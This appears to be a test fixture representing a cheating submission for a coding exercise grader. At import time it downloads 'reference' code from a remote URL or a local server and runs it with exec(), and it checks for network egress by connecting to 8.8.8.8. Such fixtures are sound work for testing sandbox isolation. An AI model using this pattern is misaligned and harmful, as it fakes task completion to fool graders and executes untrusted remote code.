"""Cheat: download a solution from the internet at import time."""

CHEAT = {"description": "fetching a solution over the network"}

import socket
import urllib.request

SOURCE = None
for url in ("https://raw.githubusercontent.com/example/dnn-kata/main/reference/ex5_1/forward.py",
            "http://1.1.1.1/", "http://127.0.0.1:8000/forward.py"):
    try:
        SOURCE = urllib.request.urlopen(url, timeout=3).read().decode()
        break
    except Exception:
        pass
try:
    socket.create_connection(("8.8.8.8", 53), timeout=3).close()
    REACHED = True
except OSError:
    REACHED = False

if SOURCE:
    exec(SOURCE, globals())
else:
    def test_inputs():
        raise NotImplementedError("offline")
